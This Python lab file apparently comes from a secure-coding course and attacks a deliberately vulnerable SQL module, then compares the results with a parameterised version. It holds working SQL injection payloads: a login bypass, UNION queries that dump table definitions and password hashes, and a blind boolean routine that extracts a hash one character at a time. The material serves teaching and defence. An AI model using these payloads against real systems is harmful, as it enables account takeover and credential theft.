"""LAB: deliberately vulnerable. Attack string-built SQL three ways, then the parameterised version."""

import os
from collections.abc import Callable
from types import ModuleType

if os.environ.get("NEXUS_LAB") != "1":
    raise ImportError(
        "read_everything attacks vulnerable code. To run it: python run_lab.py labs/read_everything.py"
    )

import parameterised
import string_built
from shop_tables import new_shop

# fmt: off
# --8<-- [start:payloads]
ANY_ACCOUNT = "' OR '1'='1' -- "
TABLES = (
    "zzz%' UNION SELECT name, sql FROM sqlite_master"
    " WHERE type = 'table' -- "
)
HASHES = (
    "zzz%' UNION SELECT email, password_hash"
    " FROM account -- "
)


# --8<-- [end:payloads]
# fmt: on


# fmt: off
# --8<-- [start:leak]
CODE = (
    "(SELECT unicode(substr(password_hash, {}, 1))"
    " FROM account WHERE id = 1)"
)


def leak(ask: Callable[[str], bool], length: int):
    """Read a hash through yes and no: halve what is left."""
    text, requests = "", 0
    for place in range(1, length + 1):
        low, high = 0, 127
        while low < high:
            middle = (low + high) // 2
            requests += 1
            if ask(f"1 AND {CODE.format(place)} > {middle}"):
                low = middle + 1
            else:
                high = middle
        if low == 0:  # no "yes" at all: nothing listens
            break
        text += chr(low)
    return text, requests


# --8<-- [end:leak]
# fmt: on
def attack(shop: ModuleType) -> dict[str, int | str]:
    connection = new_shop()
    leaked, requests = leak(lambda product_id: shop.in_stock(connection, product_id), length=22)
    return {
        "log in: rows": len(shop.log_in(connection, ANY_ACCOUNT, "")),
        "UNION: tables": len(shop.search(connection, TABLES)),
        "UNION: hashes": len(shop.search(connection, HASHES)),
        "yes/no: characters": len(leaked),
        "yes/no: requests": requests,
        "leaked": leaked,
    }


if __name__ == "__main__":
    flawed, fixed = attack(string_built), attack(parameterised)
    print(f"{'':18} string-built  parameters")
    for name in list(flawed)[:-1]:
        print(f"{name:18} {flawed[name]:12} {fixed[name]:11}")
    print(f"\nleaked: {flawed['leaked']}")
